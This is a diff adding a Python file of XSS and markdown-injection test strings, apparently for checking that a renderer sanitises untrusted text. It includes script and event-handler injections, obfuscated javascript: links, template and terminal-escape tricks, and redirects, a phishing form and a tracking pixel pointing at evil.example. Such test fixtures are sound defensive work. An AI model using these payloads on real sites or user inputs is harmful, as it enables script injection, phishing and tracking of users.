@@ -1,0 +1,61 @@
+"""Text that would like to be a program."""
+
+PAYLOADS = (
+    "<script>window.pwned=1;console.log('pwned')</script>",
+    "<img src=x onerror=\"window.pwned=1;console.log('pwned')\">",
+    "<svg onload=\"window.pwned=1;console.log('pwned')\"><circle r=9></svg>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<link rel=stylesheet href="https://evil.example/x.css">',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<form action="https://evil.example/"><button>Sign in</button></form>',
+    '<details open ontoggle="window.pwned=1">x</details>',
+    '<a href="javascript:window.pwned=1">raw</a>',
+    "</pre></code></p></article></main><script>window.pwned=1</script>",
+    "--><script>window.pwned=1</script><!--",
+    "]]><script>window.pwned=1</script>",
+    '"><script>window.pwned=1</script>',
+    "' autofocus onfocus='window.pwned=1",
+    "[js](javascript:window.pwned=1)",
+    "[js](JaVaScRiPt:window.pwned=1)",
+    "[js](java\tscript:window.pwned=1)",
+    "[js](&#106;avascript:window.pwned=1)",
+    "[js](\x01javascript:window.pwned=1)",
+    "[data](data:text/html,<script>window.pwned=1</script>)",
+    "[vb](vbscript:msgbox)",
+    "[own](//evil.example/)",
+    '[quote](https://evil.example/"onmouseover="window.pwned=1)',
+    "[x](https://evil.example/ 'title\" onmouseover=\"window.pwned=1')",
+    "![pixel](https://evil.example/pixel.png)",
+    '![x](x"onerror="window.pwned=1)',
+    "![js](javascript:window.pwned=1)",
+    '<https://evil.example/?"onmouseover="window.pwned=1>',
+    "<javascript:window.pwned=1>",
+    "```<script>window.pwned=1</script>\n</code></pre><script>window.pwned=1</script>\n```",
+    "```html\n<script>window.pwned=1</script>\n```",
+    '```"><script>window.pwned=1</script>\nx\n```',
+    "`<script>window.pwned=1</script>`",
+    "| <script>window.pwned=1</script> |\n|---|\n| <img src=x onerror=window.pwned=1> |",
+    "# <script>window.pwned=1</script>",
+    "> <script>window.pwned=1</script>",
+    "- [x] <img src=x onerror=window.pwned=1>",
+    "[ref]: javascript:window.pwned=1\n\n[ref]",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "\x1b]8;;javascript:window.pwned=1\x07click\x1b]8;;\x07\x1b[31mred",
+    "\u202e<script>window.pwned=1</script>\u2066",
+    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "\ufeff<script>window.pwned=1</script>",
+    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
+)
+
+DIFF = """--- a/x
++++ b/<script>window.pwned=1</script>
+@@ -1,1 +1,1 @@
+-old
++<img src=x onerror=window.pwned=1>
+"""
